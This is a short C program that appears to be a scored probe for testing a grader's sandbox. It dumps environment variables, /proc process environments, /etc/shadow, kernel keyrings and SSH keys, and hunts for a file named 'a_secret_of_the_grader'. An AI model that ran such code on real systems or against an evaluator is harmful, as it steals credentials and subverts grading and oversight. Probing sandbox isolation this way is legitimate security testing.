// Prints what it can find of the grader: files, environments, keys.
// Points: 15
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
static void print(const char *path)
{
    char text[4096];
    int file = open(path, O_RDONLY | O_NONBLOCK);
    ssize_t length = file == -1 ? -1 : read(file, text, sizeof text);
    if (length > 0)
        write(1, text, (size_t)length);
    if (file != -1)
        close(file);
}
static void attack(void)
{
    extern char **environ;
    for (char **name = environ; *name; name++)
        puts(*name);
    for (int pid = 1; pid < 300; pid++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/environ", pid);
        print(path);
        snprintf(path, sizeof path, "/proc/%d/root/tmp/a_secret_of_the_grader",
                 pid);
        print(path);
    }
    print("/tmp/a_secret_of_the_grader");
    print("/var/tmp/a_secret_of_the_grader");
    print("/etc/shadow");
    print("/etc/hostname");
    print("/proc/keys");
    fflush(stdout);
    system("keyctl show; keyctl print %user:a_secret_of_the_grader; keyctl "
           "print $(keyctl search @s user a_secret_of_the_grader)");
    system("ls -a /root/.. /home /work /srv /opt; cat /home/*/* /root/.ssh/*");
}
